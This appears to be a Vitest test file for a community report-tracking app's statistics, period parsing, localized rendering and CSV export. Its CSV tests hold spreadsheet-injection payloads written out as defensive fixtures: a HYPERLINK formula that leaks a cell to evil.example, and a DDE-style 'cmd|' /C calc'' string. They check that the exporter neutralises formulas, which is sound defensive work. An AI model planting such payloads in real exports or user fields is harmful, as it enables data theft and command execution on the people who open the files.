import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { csvBytes, toCsv, UTF8_BOM, type CsvCell } from "../../../src/features/evaluation/csv.js";
import { computeStats, parseStatsArgs, type Stats } from "../../../src/features/evaluation/stats.js";
import { renderStats, statsCsvRows } from "../../../src/features/evaluation/stats-view.js";
import { createI18n } from "../../../src/i18n.js";
import { createTestDatabase, type TestDatabase } from "../../helpers/database.js";
import { seedDefaultCommunity } from "../../helpers/harness.js";
import { addArea, addMember, addRating, addReport, at, categoryId } from "./fixture.js";

/*
 * May 2026 in Asia/Shanghai: 2026-04-30T16:00Z to 2026-05-31T16:00Z. Eight reports inside it
 * (S1–S8), two just outside (S9 one second before, S10 at the end). Worked out by hand:
 *   resolved S1–S5 after 1, 2, 3, 4 and 10 hours → median 3, p90 = 4 + 0.6 × (10 − 4) = 7.6
 *   judged on the deadline (+5 h): S1–S5 and S6 (unresolved, past it); S7 is not due yet and S8
 *   was rejected → 6 judged, 4 met (S5 was late)
 *   reopened: S4 → 1 of 8; ratings: S2 ★5, S3 ★4 → 4.5
 */
const i18n = createI18n();
const NOW = at("2026-06-10T00:00:00Z");
const MAY = { from: "2026-05-01", to: "2026-05-31" };
const X = 4101;
const Y = 4102;

let database: TestDatabase;
let home: number;
let dirty: number;
let toilet: number;
let north: number;
let south: number;
let may: Stats;

const hoursAfter = (iso: string, hours: number) => new Date(Date.parse(iso) + hours * 3600_000).toISOString();

beforeAll(async () => {
  database = await createTestDatabase();
  const { db } = database;
  home = (await seedDefaultCommunity(db)).id;
  dirty = await categoryId(db, home, "dirty-spot");
  toilet = await categoryId(db, home, "public-toilet");
  north = await addArea(db, home, "北区, 一组");
  south = await addArea(db, home, '南区 "二组"');
  await addMember(db, home, X, 'Wang "Boss"', "inspector");
  await addMember(db, home, Y, "=SUM(A1)", "inspector");

  const resolvedAfter = async (
    created: string,
    hours: number,
    extra: { categoryId: number; areaId: number | null; assigneeId: number; resolvedBy?: number; reopen?: boolean },
  ) =>
    addReport(db, {
      communityId: home,
      categoryId: extra.categoryId,
      areaId: extra.areaId,
      createdAt: created,
      deadlineAt: hoursAfter(created, 5),
      assigneeId: extra.assigneeId,
      resolvedBy: extra.resolvedBy ?? extra.assigneeId,
      steps: extra.reopen
        ? [
            ["assigned", hoursAfter(created, 0.1)],
            ["resolved", hoursAfter(created, 1)],
            ["reopened", hoursAfter(created, 2)],
            ["resolved", hoursAfter(created, hours)],
          ]
        : [
            ["assigned", hoursAfter(created, 0.1)],
            ["resolved", hoursAfter(created, hours)],
          ],
    });
  await resolvedAfter("2026-04-30T16:00:00Z", 1, { categoryId: dirty, areaId: north, assigneeId: X }); // S1, at 5/1 00:00 local
  const s2 = await resolvedAfter("2026-05-02T02:00:00Z", 2, { categoryId: dirty, areaId: north, assigneeId: X });
  const s3 = await resolvedAfter("2026-05-03T02:00:00Z", 3, { categoryId: toilet, areaId: south, assigneeId: Y });
  await resolvedAfter("2026-05-04T02:00:00Z", 4, { categoryId: toilet, areaId: south, assigneeId: Y, reopen: true }); // S4
  await resolvedAfter("2026-05-05T02:00:00Z", 10, { categoryId: dirty, areaId: north, assigneeId: X, resolvedBy: Y }); // S5, late
  // S6: no area, never resolved, deadline long past.
  await addReport(db, {
    communityId: home,
    categoryId: dirty,
    areaId: null,
    createdAt: "2026-05-06T02:00:00Z",
    deadlineAt: "2026-05-06T07:00:00Z",
    assigneeId: X,
    steps: [["assigned", "2026-05-06T03:00:00Z"]],
  });
  // S7: filed at 5/31 23:00 local, due after NOW: not judged yet.
  await addReport(db, { communityId: home, categoryId: dirty, areaId: north, createdAt: "2026-05-31T15:00:00Z", deadlineAt: "2026-06-30T00:00:00Z" });
  // S8: rejected.
  await addReport(db, {
    communityId: home,
    categoryId: dirty,
    areaId: north,
    createdAt: "2026-05-07T02:00:00Z",
    deadlineAt: "2026-05-07T07:00:00Z",
    steps: [["rejected", "2026-05-07T03:00:00Z"]],
  });
  // S9 and S10: just outside May (local time), slow and rated: they would change everything.
  const s9 = await resolvedAfter("2026-04-30T15:59:59Z", 100, { categoryId: toilet, areaId: south, assigneeId: Y });
  await resolvedAfter("2026-05-31T16:00:00Z", 200, { categoryId: toilet, areaId: south, assigneeId: Y });
  await addRating(db, s2, 5, "2026-05-03T00:00:00Z");
  await addRating(db, s3, 4, "2026-06-01T00:00:00Z"); // rated in June: still May's report
  await addRating(db, s9, 1, "2026-05-10T00:00:00Z");

  // March: four resolved after 1, 2, 3 and 4 hours → median 2.5, p90 = 3 + 0.7 × 1 = 3.7.
  for (const [i, hours] of [1, 2, 3, 4].entries())
    await resolvedAfter(`2026-03-0${i + 2}T02:00:00Z`, hours, { categoryId: dirty, areaId: north, assigneeId: X });
  // April 10–20: one report, not resolved.
  await addReport(db, { communityId: home, categoryId: dirty, createdAt: "2026-04-15T02:00:00Z", deadlineAt: "2026-04-15T07:00:00Z" });

  may = await computeStats(db, home, MAY, NOW);
});
afterAll(() => database.close());

describe("computeStats", () => {
  it("computes the period's totals, the percentiles in hours, the deadline, reopen and rating figures", () => {
    expect(may).toMatchObject({
      communityId: home,
      period: MAY,
      timezone: "Asia/Shanghai",
      fromUtc: "2026-04-30T16:00:00.000Z",
      toUtc: "2026-05-31T16:00:00.000Z",
      reports: 8,
      resolved: 5,
      medianHours: 3,
      p90Hours: 7.6,
      deadline: { judged: 6, met: 4, share: 0.667 },
      reopen: { reports: 1, rate: 0.125 },
      rating: { count: 2, average: 4.5 },
    });
  });

  it("breaks the figures down by category and by area", () => {
    const group = (s: {
      reports: number;
      resolved: number;
      deadline: { share: number | null };
      reopen: { rate: number | null };
      rating: { count: number; average: number | null };
    }) => [s.reports, s.resolved, s.deadline.share, s.reopen.rate, s.rating.count, s.rating.average];
    expect(may.byCategory.map((c) => [c.id, ...group(c)])).toEqual([
      [dirty, 6, 3, 0.5, 0, 1, 5], // S1 S2 S5 S6 S7 S8; judged S1 S2 S5 S6, met S1 S2
      [toilet, 2, 2, 1, 0.5, 1, 4], // S3 S4
    ]);
    expect(may.byArea.map((a) => [a.name, ...group(a)])).toEqual([
      ["北区, 一组", 5, 3, 0.667, 0, 1, 5], // S1 S2 S5 S7 S8
      ['南区 "二组"', 2, 2, 1, 0.5, 1, 4], // S3 S4
      [null, 1, 0, 0, 0, 0, null], // S6
    ]);
  });

  it("counts per assignee: assigned now, resolved by them, and the deadline and ratings of their reports", () => {
    expect(may.inspectors).toEqual([
      // S1 S2 S5 S6; resolved S1 S2; judged S1 S2 S5 S6, met S1 S2; S2 rated ★5
      { id: X, name: 'Wang "Boss"', assigned: 4, resolved: 2, deadline: { judged: 4, met: 2, share: 0.5 }, rating: { count: 1, average: 5 } },
      // S3 S4; resolved S3 S4 and S5; both met; S3 rated ★4
      { id: Y, name: "=SUM(A1)", assigned: 2, resolved: 3, deadline: { judged: 2, met: 2, share: 1 }, rating: { count: 1, average: 4 } },
    ]);
  });

  it("interpolates percentiles on an even count, and gives none when nothing was resolved", async () => {
    const march = await computeStats(database.db, home, { from: "2026-03-01", to: "2026-03-31" }, NOW);
    expect(march).toMatchObject({ reports: 4, resolved: 4, medianHours: 2.5, p90Hours: 3.7 });
    const april = await computeStats(database.db, home, { from: "2026-04-10", to: "2026-04-20" }, NOW);
    expect(april).toMatchObject({
      reports: 1,
      resolved: 0,
      medianHours: null,
      p90Hours: null,
      deadline: { judged: 1, met: 0, share: 0 },
      rating: { count: 0, average: null },
    });
    const empty = await computeStats(database.db, home, { from: "2025-01-01", to: "2025-01-31" }, NOW);
    expect(empty).toMatchObject({
      reports: 0,
      medianHours: null,
      deadline: { share: null },
      reopen: { rate: null },
      byCategory: [],
      byArea: [],
      inspectors: [],
    });
  });
});

describe("parseStatsArgs", () => {
  const today = "2026-05-20"; // a Wednesday
  it.each([
    ["", { from: "2026-05-01", to: today }],
    ["month", { from: "2026-05-01", to: today }],
    ["week", { from: "2026-05-18", to: today }],
    [" WEEK ", { from: "2026-05-18", to: today }],
    ["quarter", { from: "2026-04-01", to: today }],
    ["2026-04-01 2026-04-30", { from: "2026-04-01", to: "2026-04-30" }],
    ["2026-05-01   2026-06-30", { from: "2026-05-01", to: today }],
    ["2025-05-20 2026-05-20", { from: "2025-05-20", to: today }],
  ])("%j → a period", (args, period) => {
    expect(parseStatsArgs(args, today)).toEqual({ ok: true, period });
  });
  it.each([
    ["year", "usage"],
    ["2026-05-01", "usage"],
    ["week month", "usage"],
    ["2026/05/01 2026/05/10", "usage"],
    ["2026-02-30 2026-03-01", "bad-date"],
    ["2026-05-10 2026-05-01", "reversed"],
    ["2026-06-01 2026-06-30", "future"],
    ["2025-05-19 2026-05-20", "too-long"],
  ])("%j → refused (%s)", (args, reason) => {
    expect(parseStatsArgs(args, today)).toEqual({ ok: false, reason });
  });
});

describe("renderStats", () => {
  it("writes the figures in the reader's language", () => {
    const en = renderStats(may, "en", (key, vars) => i18n.t("en", key, vars)).split("\n");
    expect(en.slice(0, 7)).toEqual([
      "📊 Statistics · 2026-05-01 to 2026-05-31",
      "",
      "8 reports, 5 dealt with",
      "Time to deal with a report: median 3.0 hours, 90% within 7.6 hours",
      "Dealt with by the deadline: 66.7% (4/6)",
      "Reopened: 12.5% (1/8)",
      "Residents' ratings: 2, 4.5 stars on average",
    ]);
    expect(en).toContain("• 🚻 Public toilet: 2 reports, 2 dealt with, on time 100.0%, reopened 50.0%, rating 4.0");
    expect(en).toContain("• Outside any area: 1 reports, 0 dealt with, on time 0.0%, reopened 0.0%, rating —");
    expect(en).toContain('• Wang "Boss": 4 assigned, 2 dealt with');
    const zh = renderStats(may, "zh-CN", (key, vars) => i18n.t("zh-CN", key, vars));
    expect(zh).toContain("处理用时：中位数 3.0 小时，90% 在 7.6 小时内");
    expect(zh).toContain("• 🗑️ 卫生死角 / 垃圾堆：6 件，已处理 3，按期 50.0%，重开 0.0%，评分 5.0");
  });
});

describe("CSV", () => {
  /** One cell as it stands in its line. */
  const csvField = (cell: CsvCell) => toCsv([[cell]]).slice(0, -"\r\n".length);

  it("quotes fields with commas, quotes and line breaks, and defuses formulas", () => {
    expect(csvField("plain")).toBe("plain");
    expect(csvField("a,b")).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField("two\nlines")).toBe('"two\nlines"');
    expect(csvField("cr\r\nlf")).toBe('"cr\r\nlf"');
    expect(csvField(" padded")).toBe('" padded"');
    expect(csvField("=SUM(A1)")).toBe("'=SUM(A1)");
    expect(csvField("-5")).toBe("'-5");
    expect(csvField(-5)).toBe("-5");
    expect(csvField(2.5)).toBe("2.5");
    expect(csvField(null)).toBe("");
    expect(csvField(Number.NaN)).toBe("");
    expect(csvField("卫生死角")).toBe("卫生死角");
    expect(
      toCsv([
        ["a", 1],
        ["b,c", null],
      ]),
    ).toBe('a,1\r\n"b,c",\r\n');
  });

  it("keeps a resident's description that begins like a formula text in Excel (OWASP CSV injection)", () => {
    const description = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")';
    const line = toCsv([["R-000042", description]]);
    expect(line).toBe(`R-000042,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click for details"")"\r\n`);
    for (const start of ["+", "-", "@", "\t", "\r", "＝"]) expect(csvField(`${start}cmd|' /C calc'!A0`)).toMatch(/^"?'/);
  });

  it("is UTF-8 with a byte order mark, a header row, and the Chinese text intact", () => {
    const bytes = csvBytes(statsCsvRows(may, "zh-CN", (key, vars) => i18n.t("zh-CN", key, vars)));
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.toString("utf8");
    expect(text.startsWith(UTF8_BOM)).toBe(true);
    const lines = text.slice(1).split("\r\n");
    expect(lines).toEqual([
      "分组,名称,上报数,已处理,应按期数,按期处理数,按期处理率(%),重新打开数,重新打开率(%),评价数,平均星级,处理用时中位数(小时),处理用时90分位(小时),分派数",
      "合计,2026-05-01 ~ 2026-05-31,8,5,6,4,66.7,1,12.5,2,4.5,3,7.6,",
      "类别,卫生死角 / 垃圾堆,6,3,4,2,50,0,0,1,5,,,",
      "类别,公共厕所,2,2,2,2,100,1,50,1,4,,,",
      '网格,"北区, 一组",5,3,3,2,66.7,0,0,1,5,,,',
      '网格,"南区 ""二组""",2,2,2,2,100,1,50,1,4,,,',
      "网格,未划入网格,1,0,1,0,0,0,0,0,,,,",
      '处理人,"Wang ""Boss""",,2,,,,,,,,,,4',
      "处理人,'=SUM(A1),,3,,,,,,,,,,2",
      "",
    ]);
  });
});
